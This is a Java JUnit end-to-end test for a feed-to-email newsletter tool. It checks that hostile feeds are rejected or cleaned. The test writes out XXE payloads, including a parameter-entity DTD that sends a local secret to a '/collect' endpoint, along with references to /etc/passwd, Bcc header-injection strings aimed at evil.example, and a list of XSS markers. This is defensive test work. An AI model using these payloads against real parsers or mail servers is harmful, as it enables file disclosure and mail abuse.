@@ -1,0 +1,247 @@
+package org.newsletter;
+
+import java.io.IOException;
+import java.io.UncheckedIOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.Collections;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.UUID;
+import java.util.stream.Stream;
+
+import com.icegreen.greenmail.junit5.GreenMailExtension;
+import com.icegreen.greenmail.util.ServerSetupTest;
+import com.jayway.jsonpath.JsonPath;
+import jakarta.mail.Header;
+import jakarta.mail.internet.MimeMessage;
+import org.jsoup.Jsoup;
+import org.jsoup.nodes.Element;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.RegisterExtension;
+import org.junit.jupiter.api.io.TempDir;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/**
+ * Feeds from the wild in one run: every hostile fixture, external-entity attacks on a local
+ * secret, a server that trickles, a 50 MB body, a redirect loop and an {@code ftp:} URL, served
+ * beside the good Planet feeds, through the command line to a real SMTP server. The job
+ * completes, each bad feed is named with its reason, the digest holds the good content cleaned,
+ * no header carries a line break, and no byte of a local file reaches any output.
+ */
+class HostileFeedsEndToEndTests {
+
+	private static final Path FIXTURES = Path.of("src/test/resources/fixtures");
+
+	@RegisterExtension
+	static GreenMailExtension smtp = new GreenMailExtension(ServerSetupTest.SMTP.dynamicPort());
+
+	@TempDir
+	Path dataDir;
+
+	@TempDir
+	Path elsewhere;
+
+	FeedServer feeds;
+
+	String secret;
+
+	@BeforeEach
+	void start() throws IOException {
+		feeds = new FeedServer(FIXTURES.resolve("planet/march-20/feeds"));
+		secret = "local-secret-" + UUID.randomUUID();
+		Files.writeString(elsewhere.resolve("secret.txt"), secret);
+	}
+
+	@AfterEach
+	void stop() {
+		feeds.close();
+	}
+
+	@Test
+	void hostileFeedsBesideGoodOnesInOneRun() throws Exception {
+		Map<String, String> bad = serveHostileFeeds();
+		List<String> urls = new ArrayList<>(bad.keySet());
+		for (String good : List.of("script-injection.xml", "latin1.xml", "mislabelled-utf8.xml", "odd-dates.xml")) {
+			urls.add(serve("/hostile/" + good, Files.readAllBytes(FIXTURES.resolve("hostile").resolve(good)),
+					"application/rss+xml"));
+		}
+		writeOpml(urls);
+		Files.writeString(dataDir.resolve("subscribers.csv"),
+				"email,name\nada@example.org,Ada\nmallory@example.org,\"Mal\u2028Bcc: name@evil.example\"\n");
+		Path templates = Files.createDirectories(elsewhere.resolve("templates"));
+		// an operator's subject template that puts feed text and a line break into the Subject
+		Files.writeString(templates.resolve("subject.ftl"), "${issue.title}: <#list issue.sources as s>"
+				+ "<#if s.name?starts_with('Hostile')><#list s.entries as e>${e.title} / </#list></#if></#list>"
+				+ "\nBcc: template@evil.example\n");
+		var cli = new Cli(dataDir).with("spring.mail.host", "127.0.0.1")
+			.with("spring.mail.port", smtp.getSmtp().getPort())
+			.with("newsletter.fetch.timeout", "2s")
+			.with("newsletter.templates-dir", templates);
+		assertThat(cli.run("subscribers", "import", dataDir.resolve("subscribers.csv").toString()).exitCode()).isZero();
+
+		var run = cli.run("run", "--cutoff=2026-03-21T00:00:00Z");
+
+		assertThat(run.exitCode()).as(run.toString()).isZero();
+		assertThat(run.out()).contains("fetch: 25/" + (25 + bad.size()) + " feeds ok, " + bad.size() + " failed",
+				"29 entries eligible from 17 sources", "send: 2/2 messages");
+		bad.forEach((url, reason) -> assertThat(run.out()).as(run.toString())
+			.containsPattern("failed: .*\\(" + java.util.regex.Pattern.quote(url) + "\\): .*" + reason));
+		MimeMessage[] received = smtp.getReceivedMessages();
+		assertThat(received).as("one copy per SMTP recipient: an injected Bcc would add one").hasSize(2);
+		for (MimeMessage message : received) {
+			assertHeadersAreSafe(message);
+			assertDigestIsCleanAndComplete(WeeklyDigestEndToEndTests.part(message, "text/html"));
+		}
+		Path archive = Files.walk(dataDir.resolve("archive")).filter(p -> p.endsWith("index.html")).findFirst().orElseThrow();
+		assertDigestIsCleanAndComplete(Files.readString(archive));
+		assertThat(feeds.requests()).extracting(FeedServer.Request::path).doesNotContain("/evil.dtd", "/collect");
+		assertNoLocalFileLeaked(received, run);
+	}
+
+	/** The bad feeds by URL, each with (a pattern of) the reason the summary must give. */
+	private Map<String, String> serveHostileFeeds() throws IOException {
+		Map<String, String> bad = new LinkedHashMap<>();
+		String rejected = "rejected: the feed declares a DOCTYPE";
+		bad.put(serveFixture("xxe-file.xml"), rejected);
+		bad.put(serveFixture("billion-laughs.xml"), rejected);
+		bad.put(serveFixture("truncated.xml"), "malformed XML");
+		bad.put(serve("/hostile/not-a-feed.html", Files.readAllBytes(FIXTURES.resolve("hostile/not-a-feed.html")),
+				"text/html; charset=utf-8"), "not a feed \\(an HTML page\\); it advertises the feed "
+						+ java.util.regex.Pattern.quote(feeds.url("/feed.xml")));
+		String secretUrl = elsewhere.resolve("secret.txt").toUri().toString();
+		bad.put(serve("/xxe-general.xml", feed("<!DOCTYPE rss [<!ENTITY s SYSTEM \"" + secretUrl + "\">]>", "&s;"),
+				"application/rss+xml"), rejected);
+		serve("/collect", new byte[0], "text/plain");
+		serve("/evil.dtd", ("<!ENTITY % file SYSTEM \"" + secretUrl + "\"><!ENTITY % all \"<!ENTITY send SYSTEM '"
+				+ feeds.url("/collect") + "?%file;'>\"> %all;").getBytes(StandardCharsets.UTF_8), "application/xml-dtd");
+		bad.put(serve("/xxe-parameter.xml", feed("<!DOCTYPE rss [<!ENTITY % dtd SYSTEM \"" + feeds.url("/evil.dtd")
+				+ "\"> %dtd;]>", "&send;"), "application/rss+xml"), rejected);
+		feeds.handle("/trickle.xml", FeedServer.trickle());
+		bad.put(feeds.url("/trickle.xml"), "timed out");
+		feeds.handle("/huge.xml", FeedServer.zeros(50));
+		bad.put(feeds.url("/huge.xml"), "larger than the limit of 10485760 bytes");
+		feeds.handle("/loop.xml", exchange -> {
+			exchange.getResponseHeaders().set("Location", "/loop.xml");
+			exchange.sendResponseHeaders(302, -1);
+		});
+		bad.put(feeds.url("/loop.xml"), "more than 5 redirects");
+		bad.put("ftp://127.0.0.1/feed.xml", "unsupported URL scheme 'ftp'");
+		return bad;
+	}
+
+	private void assertHeadersAreSafe(MimeMessage message) throws Exception {
+		assertThat(message.getAllRecipients()).singleElement()
+			.extracting(address -> ((jakarta.mail.internet.InternetAddress) address).getAddress())
+			.isIn("ada@example.org", "mallory@example.org");
+		assertThat(message.getHeader("Bcc")).isNull();
+		assertThat(message.getSubject()).startsWith("Planet Python Weekly: ")
+			.contains("Subject line Bcc: everyone@evil.example", "Bcc: template@evil.example")
+			.doesNotContain("\r", "\n");
+		for (Header header : Collections.list(message.getAllHeaders())) {
+			assertThat(header.getValue().replace("\r\n\t", "").replace("\r\n ", ""))
+				.as(header.getName()).doesNotContain("\r", "\n", "\u2028");
+		}
+	}
+
+	/** The good entries are all there, in the good sources and the hostile feeds alike, and nothing dangerous is. */
+	private static void assertDigestIsCleanAndComplete(String html) {
+		List<Map.Entry<String, List<String>>> digest = new ArrayList<>();
+		for (Element source : Jsoup.parse(html).select("td.source")) {
+			digest.add(Map.entry(source.selectFirst("h2").text(), source.select("h3").eachText()));
+		}
+		assertThat(digest).hasSize(17)
+			.contains(Map.entry("Hostile Markup Blog", List.of("Subject line Bcc: everyone@evil.example",
+					"Title with markup & an ampersand")), Map.entry("Odd Dates", List.of("Duplicate guid first")))
+			// the honest Latin-1 feed and the one whose Latin-1 bytes are labelled UTF-8
+			.containsSubsequence(Map.entry("Café Blog", List.of("Crème brûlée recipes")),
+					Map.entry("Café Blog", List.of("Crème brûlée recipes")));
+		assertThat(digest.stream().mapToInt(source -> source.getValue().size()).sum()).isEqualTo(29);
+		assertThat(html).contains("Visible paragraph one", "Visible paragraph two", "Délicieux")
+			.doesNotContain("<script", "javascript:", "onclick", "onerror", "onload", "steal(", "alert(",
+					"https://evil.example", "tracker.example", "<iframe", "<form", "<svg", "<object", "lollol");
+	}
+
+	/**
+	 * Neither the secret file nor a line of /etc/passwd (what xxe-file.xml reads) shows in the
+	 * mail, the terminal output or any file of the data directory: archive, database, logs.
+	 */
+	private void assertNoLocalFileLeaked(MimeMessage[] received, Cli.Result run) throws Exception {
+		List<String> needles = new ArrayList<>(List.of(secret));
+		Path passwd = Path.of("/etc/passwd");
+		if (Files.isReadable(passwd)) {
+			Files.readAllLines(passwd).stream().filter(line -> line.length() >= 12).forEach(needles::add);
+		}
+		List<String> outputs = new ArrayList<>(List.of(run.out(), run.err()));
+		for (MimeMessage message : received) {
+			var raw = new java.io.ByteArrayOutputStream();
+			message.writeTo(raw);
+			outputs.add(raw.toString(StandardCharsets.UTF_8));
+			outputs.add(WeeklyDigestEndToEndTests.part(message, "text/plain"));
+			outputs.add(WeeklyDigestEndToEndTests.part(message, "text/html"));
+		}
+		List<String> stored = new ArrayList<>();
+		try (Stream<Path> files = Files.walk(dataDir)) {
+			for (Path file : files.filter(Files::isRegularFile).toList()) {
+				byte[] bytes = Files.readAllBytes(file);
+				stored.add(new String(bytes, StandardCharsets.ISO_8859_1));
+				stored.add(new String(bytes, StandardCharsets.UTF_16BE));
+				stored.add(new String(bytes, StandardCharsets.UTF_16LE));
+			}
+		}
+		// the scan sees what the database keeps: a title stored but never sent (back catalogue)
+		assertThat(stored).anyMatch(text -> text.contains("No date at all"));
+		outputs.addAll(stored);
+		for (String output : outputs) {
+			for (String needle : needles) {
+				assertThat(output.contains(needle)).as("'%s' leaked", needle).isFalse();
+			}
+		}
+	}
+
+	private static byte[] feed(String doctype, String title) {
+		return ("<?xml version=\"1.0\"?>" + doctype + "<rss version=\"2.0\"><channel><title>" + title
+				+ "</title><link>https://xxe.example/</link><item><title>" + title
+				+ "</title><link>https://xxe.example/1</link></item></channel></rss>").getBytes(StandardCharsets.UTF_8);
+	}
+
+	private String serveFixture(String name) throws IOException {
+		return serve("/hostile/" + name, Files.readAllBytes(FIXTURES.resolve("hostile").resolve(name)), "application/xml");
+	}
+
+	private String serve(String path, byte[] body, String contentType) {
+		feeds.handle(path, exchange -> {
+			exchange.getResponseHeaders().set("Content-Type", contentType);
+			exchange.sendResponseHeaders(200, body.length);
+			exchange.getResponseBody().write(body);
+		});
+		return feeds.url(path);
+	}
+
+	/** The Planet feeds with their names (from the manifest), then the others, nameless: their own titles show. */
+	private void writeOpml(List<String> others) {
+		try {
+			List<Map<String, Object>> manifest = JsonPath.read(FIXTURES.resolve("planet/manifest.json").toFile(), "$.feeds");
+			var opml = new StringBuilder("<opml version=\"2.0\"><body>\n");
+			for (Map<String, Object> feed : manifest) {
+				opml.append("<outline text=\"").append(xml((String) feed.get("source"))).append("\" xmlUrl=\"")
+					.append(feeds.url("/feeds/" + ((String) feed.get("file")).replace("feeds/", ""))).append("\"/>\n");
+			}
+			others.forEach(url -> opml.append("<outline xmlUrl=\"").append(xml(url)).append("\"/>\n"));
+			Files.writeString(dataDir.resolve("feeds.opml"), opml.append("</body></opml>\n"));
+		}
+		catch (IOException ex) {
+			throw new UncheckedIOException(ex);
+		}
+	}
+
+	private static String xml(String text) {
+		return text.replace("&", "&amp;").replace("\"", "&quot;").replace("<", "&lt;");
+	}
+}
